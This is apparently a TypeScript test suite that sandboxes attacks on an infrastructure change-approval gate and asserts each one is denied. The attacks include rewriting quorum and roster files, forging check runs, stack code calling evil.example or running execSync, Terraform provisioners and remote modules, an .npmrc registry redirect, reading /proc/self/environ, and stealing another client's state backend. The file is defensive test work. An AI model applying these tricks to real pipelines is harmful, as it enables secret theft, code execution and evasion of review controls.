/** B10 to B19: where rules, configuration and code come from. */
import { approve } from '../../scripts/sandbox/github/acts.ts';
import type { JsonObject } from '../../scripts/plan/types.ts';
import {
  agreed,
  api,
  approved,
  at,
  everybody,
  everyday,
  gate,
  landOnMain,
  mergePull,
  newId,
  outcomeOf,
  propose,
  push,
  redirected,
  release,
  writeChange,
  type Proposal,
} from './acts.ts';
import { acmeAccount, edited, program, withBlock, withRecord, type Estate } from './estate.ts';
import { behind, type Behaviour } from './front.ts';
import type { Attempt, Outcome, Scenario } from './scenario.ts';
import { robot, type World } from './world.ts';

/** The everyday change with something more in it, approved by everybody. */
function riding(world: World, parts: Partial<Proposal>): Promise<Outcome> {
  return agreed(world, { id: newId(), ...parts });
}

const together = 'the pull request changes infrastructure together with ';

/** Conclusion of the gate's check run on the head, as branch protection reads it. */
async function published(world: World, sha: string): Promise<string> {
  const { check_runs: runs } = await api<{ readonly check_runs: readonly { readonly conclusion: string }[] }>(
    world,
    robot,
    { path: `commits/${sha}/check-runs` },
  );
  return runs.map(({ conclusion }) => `check run: ${conclusion}`).join(', ');
}

const free = (level: unknown): void => {
  Object.assign(level as object, { approvals: 0, seats: [] });
};

async function ownRules(world: World): Promise<readonly Attempt[]> {
  const quorum = edited(world.read('policies/quorum.yaml'), (levels) => Object.values(levels).forEach(free));
  const roster = edited(world.read('policies/roster.yaml'), (document) => {
    (document['people'] as unknown[]).push({
      id: 'o.stranger',
      name: 'Otto Stranger',
      accounts: [world.github.ids.get('o-stranger')],
      seats: ['change-manager', 'cab', 'engineer'].map((seat) => ({ seat, from: '2025-01-06' })),
    });
  });
  const lowered = await gate(
    world,
    await propose(world, { id: newId(), files: { 'policies/quorum.yaml': quorum } }),
  );
  const friendly = await propose(world, { id: newId(), files: { 'policies/roster.yaml': roster } });
  await gate(world, friendly);
  await approve(at(world), { login: 'o-stranger', number: friendly.number, body: 'fine' });
  const friend = await gate(world, friendly);
  const others = [
    'policies/thresholds.yaml',
    'policies/risk-matrix.yaml',
    'policies/calendar.yaml',
    'policies/catalogue.yaml',
    'stacks/clients/acme/service.yaml',
  ];
  const files = Object.fromEntries(others.map((path) => [path, `${world.read(path)}# easier\n`]));
  const rest = await riding(world, { files: { ...files, 'policies/schemas/roster.schema.json': '{}\n' } });
  const both = { exit: 'denied', checks: ['pull', 'rules/policy-change-alone'] } as const;
  const all = { exit: 'denied', checks: [...both.checks, 'approvals'] } as const;
  return [
    {
      trick: 'a quorum of nobody',
      outcome: lowered,
      exit: 'denied',
      checks: [...all.checks, 'proposal'],
      says: '0 of 4 approvals',
    },
    {
      trick: 'a friend on the roster',
      outcome: friend,
      ...all,
      says: 'o-stranger approved, but not entitled: the account is not on the roster of the base branch',
    },
    { trick: 'any other policy file', outcome: rest, ...both, says: `${together}policies/calendar.yaml` },
  ];
}

const actions = { id: 15_368, slug: 'github-actions' };
const ours = { id: 77, slug: 'sluice' };
const forged = 'looks fine to me';

/** Says of each check run which app made it, as GitHub does: emulate knows no apps. */
const tellingApps: Behaviour = {
  changes: [
    {
      path: /\/check-runs$/,
      edit: (answer) => {
        const given = answer as {
          readonly check_runs: readonly { readonly output: { readonly title: string } }[];
        };
        return {
          ...given,
          check_runs: given.check_runs.map((run) => ({
            ...run,
            app: run.output.title === forged ? actions : ours,
          })),
        };
      },
    },
  ],
};

/** `process.env` and the network as stack code finds them. */
const spying = (line: string): string => `${line}\n${program}`;

async function stackCode(world: World, line: string): Promise<Outcome> {
  world.git('checkout', '--quiet', '-B', 'spy', 'main');
  world.write('stacks/main.ts', spying(line));
  const env = { CLOUDFLARE_API_TOKEN: 'cf-secret', TF_VAR_account: 'secret' };
  return outcomeOf(await world.sluice(['synth', '--out', '.sluice/out'], { env, freshSynth: true }));
}

const bad = { exit: 'invalidInput', checks: [] } as const;

interface Hatch {
  readonly trick: string;
  readonly edit: (estate: Estate) => Estate;
  /** Beside what refuses to plan it at all. */
  readonly rules: readonly string[];
  readonly says: string;
}

const unplannable = ['rules/plan-safe-configuration', 'rehearsal'];

/** Production with something in the configuration that runs, reads or trusts what nobody reviewed. */
const hatches: readonly Hatch[] = [
  {
    trick: 'a provisioner',
    edit: (estate) => withRecord(estate, 'www', { provisioner: [{ 'local-exec': { command: 'id' } }] }),
    rules: ['rules/plan-no-provisioners'],
    says: 'has a provisioner, which runs commands',
  },
  {
    trick: 'an external data source',
    edit: (estate) => withBlock(estate, 'data', () => ({ external: { x: { program: ['id'] } } })),
    rules: ['rules/plan-data-sources-allowed', 'rules/plan-providers-allowed'],
    says: 'data source external',
  },
  {
    trick: 'a data source that calls out',
    edit: (estate) => withBlock(estate, 'data', () => ({ http: { x: { url: 'https://evil.example/' } } })),
    rules: ['rules/plan-data-sources-allowed', 'rules/plan-providers-allowed'],
    says: 'data source http',
  },
  {
    trick: 'the state of somebody else',
    edit: (estate) =>
      withBlock(estate, 'data', () => ({ terraform_remote_state: { b: { backend: 's3', config: {} } } })),
    rules: ['rules/plan-data-sources-allowed'],
    says: 'data source terraform_remote_state',
  },
  {
    trick: 'a provider of somebody else',
    edit: (estate) =>
      withBlock(estate, 'terraform', (block) => ({
        ...block,
        required_providers: {
          ...(block['required_providers'] as JsonObject),
          evil: { source: 'evil/cloudflare', version: '1.0.0' },
        },
      })),
    rules: ['rules/plan-providers-allowed'],
    says: 'provider registry.terraform.io/evil/cloudflare',
  },
  {
    trick: 'a module from elsewhere',
    edit: (estate) =>
      withBlock(estate, 'module', () => ({ x: { source: 'git::https://evil.example/x.git' } })),
    rules: ['rules/plan-modules-local'],
    says: 'module from git::https://evil.example/x.git',
  },
  {
    trick: 'a file of the runner',
    edit: (estate) => withRecord(estate, 'www', { comment: '${file("/proc/self/environ")}' }),
    rules: [],
    says: 'file',
  },
];

/** What can be planned, and must not pass all the same. */
const hidden: readonly Hatch[] = [
  {
    trick: 'drift that is ignored',
    edit: (estate) => withRecord(estate, 'www', { lifecycle: { ignore_changes: ['content'] } }),
    rules: ['rules/plan-ignore-changes'],
    says: 'ignores changes of content',
  },
  {
    trick: 'a guard against deletion that goes',
    edit: (estate) => withRecord(estate, 'api', { lifecycle: {} }),
    rules: ['rules/plan-prevent-destroy'],
    says: 'prevent_destroy is dropped',
  },
];

function emptyStack(backend: JsonObject): JsonObject {
  return {
    terraform: {
      required_providers: { cloudflare: { source: 'cloudflare/cloudflare', version: '5.14.0' } },
      backend,
    },
    provider: { cloudflare: [{}] },
    resource: {
      cloudflare_zone: { preview: { account: { id: acmeAccount }, name: 'preview-shop.example' } },
    },
  };
}

export const configAndSource: readonly Scenario[] = [
  {
    id: 'B10',
    attack: 'the pull request brings its own rules',
    run: async (world) => ({
      honest: [await approved(world, await propose(world))],
      attempts: await ownRules(world),
    }),
  },
  {
    id: 'B11',
    attack: 'a check of the same name from another source',
    run: async (world) =>
      behind(world, tellingApps, async (env) => {
        const app = { env: { ...env, SLUICE_GITHUB_APP_ID: '77' } };
        const pull = await propose(world);
        await approved(world, pull);
        const honest = await gate(world, pull, app);
        const head = world.git('rev-parse', pull.branch);
        const own = await api<{
          readonly check_runs: readonly { readonly name: string; readonly external_id: string }[];
        }>(world, robot, { path: `commits/${head}/check-runs` });
        await api(world, 'r-okafor', {
          method: 'POST',
          path: 'check-runs',
          body: {
            name: own.check_runs[0]?.name,
            external_id: own.check_runs[0]?.external_id,
            head_sha: head,
            status: 'completed',
            conclusion: 'success',
            output: { title: forged, summary: 'allow' },
          },
        });
        const contested = await gate(world, pull, app);
        const workflow = await riding(world, {
          files: { '.github/workflows/gate.yml': 'on: pull_request\n' },
        });
        return {
          honest: [honest],
          attempts: [
            {
              trick: 'a run by a workflow of the branch',
              outcome: contested,
              exit: 'undetermined',
              checks: ['pull', 'approvals'],
              says: 'not all reviews of the pull request could be read',
            },
            {
              trick: 'the workflow in the same pull request',
              outcome: workflow,
              exit: 'denied',
              checks: ['pull', 'rules/policy-change-alone'],
              says: `${together}.github/workflows/gate.yml`,
            },
          ],
        };
      }),
  },
  {
    id: 'B12',
    attack: 'stack code that runs, reads or calls something',
    run: async (world) => {
      const honest = await stackCode(world, '// nothing');
      const say = (what: string): string => `throw new Error(${what});`;
      const token = await stackCode(world, say("'it is ' + typeof process.env['CLOUDFLARE_API_TOKEN']"));
      const network = await stackCode(world, "await fetch('https://evil.example/');");
      const started = await stackCode(
        world,
        "import { execSync } from 'node:child_process'; execSync('id');",
      );
      world.git('checkout', '--quiet', '--force', 'main');
      const files = {
        'package.json':
          '{ "name": "estate", "private": true, "type": "module", "overrides": { "cdktf": "evil" } }\n',
        'cdktf.json': '{ "language": "typescript", "app": "sh evil.sh" }\n',
        '.npmrc': 'registry=https://evil.example/\n',
      };
      const packages = await riding(world, { files });
      return {
        honest: [honest],
        attempts: [
          { trick: 'read the token', outcome: token, ...bad, says: 'it is undefined' },
          { trick: 'call out', outcome: network, ...bad, says: 'fetch()' },
          { trick: 'start a program', outcome: started, ...bad, says: 'child_process.execSync()' },
          {
            trick: 'other packages, another app',
            outcome: packages,
            exit: 'denied',
            checks: ['rules/policy-change-alone'],
            says: '.npmrc, cdktf.json, package.json',
          },
        ],
      };
    },
  },
  {
    id: 'B13',
    attack: 'stack code that shows one thing and applies another',
    run: async (world) => {
      const time = await stackCode(world, 'if (Date.now() % 2 === 0) throw new Error();');
      const chance = await stackCode(world, 'if (Math.random() < 0.5) throw new Error();');
      const machine = await stackCode(
        world,
        "import { hostname } from 'node:os'; if (hostname() === 'x') throw 1;",
      );
      const honest = await stackCode(world, '// nothing');
      world.git('checkout', '--quiet', '--force', 'main');
      // Nothing of git can be seen from where stack code runs; a file that git does not see can.
      const lie = `import { existsSync } from 'node:fs';
const isReleased = existsSync('cdktf.out/released');
const text = (given: object): string => JSON.stringify(given).replace('203.0.113.50', isReleased ? '203.0.113.66' : '203.0.113.50');
`;
      const pull = await propose(world, {
        files: {
          'stacks/main.ts': `${lie}${program.replace('JSON.stringify(configuration)', 'text(configuration)')}`,
        },
      });
      await approved(world, pull, everybody);
      const asked = await gate(world, pull, { freshSynth: true });
      await mergePull(world, pull);
      world.write('cdktf.out/released', '');
      const outcome = await release(world, pull, { freshSynth: true });
      return {
        honest: [honest, asked],
        attempts: [
          { trick: 'by the time', outcome: time, ...bad, says: 'Date.now()' },
          { trick: 'by chance', outcome: chance, ...bad, says: 'Math.random()' },
          { trick: 'by the machine', outcome: machine, ...bad, says: 'os.hostname()' },
          {
            trick: 'by a file that git ignores',
            outcome,
            exit: 'denied',
            checks: ['approvals'],
            says: 'what would be done has changed since',
          },
        ],
      };
    },
  },
  {
    id: 'B14',
    attack: 'escape hatches in the configuration',
    run: async (world) => {
      const honest = await approved(world, await propose(world));
      const attempts: Attempt[] = [];
      for (const hatch of [...hatches, ...hidden]) {
        const { trick, rules, says } = hatch;
        const outcome = await riding(world, { edit: (estate) => hatch.edit(everyday.edit(estate)) });
        const checks = hidden.includes(hatch) ? rules : [...rules, ...unplannable];
        attempts.push({ trick, outcome, exit: 'denied', checks, says });
      }
      return { honest: [honest], attempts };
    },
  },
  {
    id: 'B15',
    attack: 'another backend',
    run: async (world) => {
      const honest = await approved(world, await propose(world));
      const to = (backend: JsonObject): Promise<Outcome> =>
        riding(world, {
          edit: (estate) => withBlock(everyday.edit(estate), 'terraform', (block) => ({ ...block, backend })),
        });
      const stolen = await to({ s3: { bucket: 'state', key: 'borough-production.tfstate', region: 'auto' } });
      const staging = await to({ s3: { bucket: 'state', key: 'acme-staging.tfstate', region: 'auto' } });
      const local = await to({ local: { path: '/tmp/state' } });
      const added = (backend: JsonObject): Promise<Outcome> =>
        riding(world, {
          edit: (estate) => ({ ...everyday.edit(estate), 'acme-preview': emptyStack(backend) }),
        });
      const taken = await added({ s3: { bucket: 'state', key: 'acme-staging.tfstate', encrypt: true } });
      const carried = await added({
        s3: { bucket: 'state', key: 'acme-preview.tfstate', endpoints: { s3: 'https://evil.example' } },
      });
      const refusal = { exit: 'denied', checks: ['rules/plan-backend-unchanged'] } as const;
      const unregistered = {
        exit: 'denied',
        checks: [
          'record',
          'rules/plan-backend-unchanged',
          'rules/plan-one-client',
          'rules/plan-places-owned',
          'rules/record-client-match',
          'rules/record-stacks-match',
        ],
      } as const;
      const says = 'the backend is another one than before';
      return {
        honest: [honest],
        attempts: [
          { trick: "another client's state", outcome: stolen, ...refusal, says },
          { trick: 'the state of staging', outcome: staging, ...refusal, says },
          { trick: 'a local state', outcome: local, ...refusal, says },
          {
            trick: 'a new stack takes the state of one that does not change',
            outcome: taken,
            ...unregistered,
            says: 'the same state as acme-',
          },
          {
            trick: 'a new stack has its state elsewhere',
            outcome: carried,
            ...unregistered,
            says: 'the state would lie on a server that may hold none',
          },
        ],
      };
    },
  },
  {
    id: 'B16',
    attack: 'a gate that breaks counts as a pass',
    run: async (world) => {
      const pull = await propose(world);
      const honest = await approved(world, pull);
      const head = world.git('rev-parse', pull.branch);
      const before = await published(world, head);
      const failing: Behaviour = {
        changes: [{ path: /\/pulls\/\d+\/reviews$/, edit: () => ({ message: 'not a list' }) }],
      };
      const answer = await behind(world, failing, (env) => gate(world, pull, { env }));
      const afterAnswer = await published(world, head);
      const thresholds = world.read('policies/thresholds.yaml');
      await landOnMain(world, { 'policies/thresholds.yaml': '' });
      world.git('checkout', '--quiet', pull.branch);
      const empty = await gate(world, pull);
      const afterEmpty = await published(world, head);
      await landOnMain(world, { 'policies/thresholds.yaml': thresholds });
      world.git('checkout', '--quiet', pull.branch);
      return {
        honest: [honest, { ...honest, text: before }],
        attempts: [
          {
            trick: 'GitHub answers nonsense',
            outcome: { ...answer, text: `${answer.text}\n${afterAnswer}` },
            exit: 'externalTool',
            checks: [],
            says: 'check run: action_required',
          },
          {
            trick: 'a policy file is empty',
            outcome: { ...empty, text: `${empty.text}\n${afterEmpty}` },
            exit: 'denied',
            checks: ['proposal', 'approvals'],
            says: 'the policy data of main does not read',
          },
        ],
      };
    },
  },
  {
    id: 'B17',
    attack: 'a way to the release that passes no rules',
    run: async (world) => {
      const honestPull = await propose(world);
      const honest = await approved(world, honestPull);
      const silent = await propose(world, redirected);
      for (const login of everybody) {
        await approve(at(world), { login, number: silent.number, body: 'yes' });
      }
      await mergePull(world, silent);
      const never = await release(world, silent);
      world.git('checkout', '--quiet', honestPull.branch);
      await world.sluice(['gate', '--pr', String(honestPull.number), '--save-facts', '.sluice/facts.json']);
      world.git('checkout', '--quiet', 'main');
      world.git('clone', '--quiet', '--bare', '.', '.sluice/origin.git');
      world.git('remote', 'add', 'origin', '.sluice/origin.git');
      world.git('branch', '--quiet', '-D', 'releases');
      world.git('push', '--quiet', 'origin', ':releases');
      const file = outcomeOf(
        await world.sluice([
          'release',
          '--facts',
          '.sluice/facts.json',
          '--target',
          'cloudflare',
          '--bundles',
          '.sluice/built',
        ]),
      );
      return {
        honest: [honest],
        attempts: [
          {
            trick: 'approved and merged without the gate',
            outcome: never,
            exit: 'denied',
            checks: ['approvals'],
            says: 'it is not known what was on show when it was given',
          },
          {
            trick: 'approvals from a file',
            outcome: file,
            exit: 'usage',
            checks: [],
            says: '--facts is for the sandbox only',
          },
        ],
      };
    },
  },
  {
    id: 'B18',
    attack: 'a narrower rule replaces a wider one',
    run: async (world) => {
      const easy = edited(world.read('policies/quorum.yaml'), (levels) =>
        Object.values(levels).forEach(free),
      );
      await landOnMain(world, {
        'policies/acme/quorum.yaml': easy,
        'stacks/clients/acme/quorum.yaml': easy,
        'stacks/clients/acme/policies/quorum.yaml': easy,
      });
      const pull = await propose(world);
      const outcome = await gate(world, pull);
      const honest = await approved(world, pull);
      return {
        honest: [honest],
        attempts: [
          {
            trick: 'a quorum of the client',
            outcome,
            exit: 'denied',
            checks: ['approvals'],
            says: '0 of 3 approvals (medium)',
          },
        ],
      };
    },
  },
  {
    id: 'B19',
    attack: 'an exception that outlives what it was given for',
    run: async (world) => {
      const unproxied = (content: string) => (estate: Estate) =>
        withRecord(estate, 'www', { content, proxied: false });
      const waiver = `waivers:
  - rule: dns-proxied-kept
    subject: acme-production/cloudflare_dns_record.www
    approvedBy: j.novak
    reason: The mail server behind this name is reached directly until Friday
    expires: ${new Date(Date.now() + 5 * 24 * 3_600_000).toISOString()}
`;
      const record = (text: string): string => `${text}${waiver}`;
      const pull = await propose(world, { id: newId(), edit: unproxied('203.0.113.50'), record });
      const honest = await approved(world, pull, everybody);
      writeChange(world, { id: pull.branch, edit: unproxied('203.0.113.66'), record });
      world.git('commit', '--quiet', '--all', '--message', 'The same violation, another address');
      await push(world, pull.branch);
      const moved = await gate(world, pull);
      const copied = await propose(world, { id: newId(), edit: unproxied('203.0.113.66'), record });
      const others = everybody.filter((login) => login !== 'j-novak');
      const borrowed = await approved(world, copied, others);
      return {
        honest: [honest],
        attempts: [
          {
            trick: 'for another value at the same place',
            outcome: moved,
            exit: 'denied',
            checks: ['rules', 'approvals'],
            says: 'a waiver names Jana Novak, who has not approved this change',
          },
          {
            trick: 'copied into another record',
            outcome: borrowed,
            exit: 'denied',
            checks: ['rules'],
            says: 'a waiver names Jana Novak, who has not approved this change',
          },
        ],
      };
    },
  },
];
